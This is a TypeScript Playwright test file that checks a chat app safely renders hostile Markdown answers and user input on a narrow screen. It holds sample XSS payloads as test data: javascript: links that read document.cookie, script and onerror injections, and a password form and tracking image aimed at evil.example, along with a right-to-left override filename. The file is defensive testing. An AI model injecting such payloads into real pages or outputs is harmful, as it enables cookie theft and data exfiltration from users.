import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { devices } from './devices.ts';
import { type Journey, startJourney } from './journey.ts';
import type { Visitor } from './visitor.ts';

const narrow = { ...devices[1]!, options: { ...devices[1]!.options, viewport: { width: 360, height: 740 } } };

/** Each is an answer of its own; what it must still show. */
const answers: { name: string; text: string; shows: string; scrolls?: true }[] = [
  {
    name: 'what would run or be fetched',
    text: [
      '![remote](https://evil.example/pixel.png?q=secret) ![data](data:image/svg+xml,<svg onload=alert(1)>)',
      '[a script](javascript:alert(document.cookie)) <javascript:alert(1)> [page](data:text/html,<script>alert(1)</script>)',
      '<script>window.ran = true</script><img src="/api/auth/sign-out" onerror="window.ran = true">',
      '<iframe src="https://evil.example"></iframe><style>body { display: none }</style>',
      '<form action="https://evil.example"><input name="password"></form>',
      '<a href="https://evil.example" ping="https://evil.example">raw link</a>',
    ].join('\n\n'),
    shows: 'raw link',
  },
  {
    name: 'a huge code block',
    text: `\`\`\`js\n${'const veryLongNameOfAConstant = [1, 2, 3].map((each) => each * 2); '.repeat(6)}\n\`\`\`\n\n\`\`\`\n${'line();\n'.repeat(5_000)}\`\`\`\n\nAfter the code.`,
    shows: 'After the code.',
    scrolls: true,
  },
  {
    name: 'very long words',
    text: `${'Donaudampfschifffahrt'.repeat(60)}\n\n\`${'x'.repeat(800)}\`\n\n# ${'W'.repeat(300)}\n\nhttps://example.com/${'a'.repeat(700)}\n\nAfter the words.`,
    shows: 'After the words.',
  },
  {
    name: 'text from right to left',
    text: 'שלום עולם, זה משפט ארוך מאוד\n\n- مرحبا بالعالم\n- \u202eevil.exe\u202d\n\n> العربية `code` و **عريض**\n\n| א | ב |\n| - | - |\n| ג | ד |\n\nAfter the right.',
    shows: 'After the right.',
  },
  {
    name: 'deep nesting',
    text: `${Array.from({ length: 60 }, (_, depth) => `${'  '.repeat(depth)}- depth ${depth}`).join('\n')}\n\n${'> '.repeat(70)}quoted\n\n${'**_'.repeat(80)}bold${'_**'.repeat(80)}\n\nAfter the depth.`,
    shows: 'After the depth.',
  },
  {
    name: 'a wide table',
    text: `|${' column with a long head |'.repeat(30)}\n|${' - |'.repeat(30)}\n|${' cell |'.repeat(30)}\n\nAfter the table.`,
    shows: 'After the table.',
    scrolls: true,
  },
];

describe('hostile Markdown, 360 pixels wide', () => {
  let journey: Journey;
  let visitor: Visitor;
  let page: Page;
  const foreign: string[] = [];

  beforeAll(async () => {
    journey = await startJourney(narrow);
    const agentId = await journey.createAgent('Scribe');
    const greetingMessage = answers[0]!.text;
    expect((await journey.admin.request('PATCH', `/api/agents/${agentId}`, { greetingMessage })).status).toBe(200);
    visitor = await journey.visit(journey.admin);
    page = visitor.page;
    page.on('request', (request) => {
      if (!request.url().startsWith(journey.address)) foreign.push(request.url());
    });
    page.on('dialog', (dialog) => {
      foreign.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await page.goto(`/chat/${agentId}`);
    await page.getByText('raw link').waitFor();
  });
  afterAll(() => journey?.close());

  test.each(answers)('$name', async ({ name, text, shows, scrolls }) => {
    journey.model.respond([{ text, chunks: 12, delayMs: 15 }]);
    await page.getByLabel('Message to Scribe').fill(name);
    await page.getByRole('button', { name: 'Send' }).click();
    const answer = page.getByRole('article', { name: 'Scribe' }).last();
    await answer.getByRole('button', { name: 'Copy as Markdown' }).waitFor();
    await answer.getByText(shows).first().waitFor();
    expect(await page.evaluate(widerThanTheirPlace)).toEqual([]);
    expect(await answer.locator('img, iframe, script, style, form, input, object').count()).toBe(0);
    for (const href of await answer
      .getByRole('link')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href'))))
      expect(href).toMatch(/^https:\/\//);
    // What it says cannot reach over the composer: the next question can be typed and the answer copied.
    await answer.getByRole('button', { name: 'Copy as Markdown' }).click();
    await answer.getByRole('button', { name: 'Copied' }).waitFor();
    if (scrolls) await visitor.checkAccessibility(name);
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    expect(foreign).toEqual([]);
    expect(journey.problems()).toEqual([]);
  });

  test('all of it again from the history, and the person’s own words', async () => {
    journey.model.respond([{ text: 'I see.' }]);
    const field = page.getByLabel('Message to Scribe');
    await field.fill(`<img src=x onerror="window.ran = true"> ${'own'.repeat(500)} [x](javascript:alert(1))`);
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByText('I see.').first().waitFor();
    await page.reload();
    await page.getByText('I see.').first().waitFor();
    expect(await page.evaluate(widerThanTheirPlace)).toEqual([]);
    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
    expect(foreign).toEqual([]);
    expect(journey.problems()).toEqual([]);
  });
});

/** In the page: what makes the page wider than the screen, or sticks out of the transcript unless it scrolls by itself. */
function widerThanTheirPlace(): string[] {
  const { scrollWidth, clientWidth } = document.documentElement;
  const wide = scrollWidth > clientWidth ? [`the page: ${scrollWidth}`] : [];
  const scroller = document.querySelector('section[aria-label^="Conversation with"]');
  if (!scroller) return [...wide, 'no transcript'];
  if (scroller.scrollWidth > scroller.clientWidth) wide.push(`the transcript: ${scroller.scrollWidth}`);
  const scrolls = (element: Element) => element.closest('pre, section section') !== null;
  for (const element of scroller.querySelectorAll('article *')) {
    const { right, left, width } = element.getBoundingClientRect();
    if (width > 1 && !scrolls(element) && (right > clientWidth + 1 || left < -1))
      wide.push(`${element.tagName} from ${left} to ${right}`);
  }
  return wide.slice(0, 5);
}
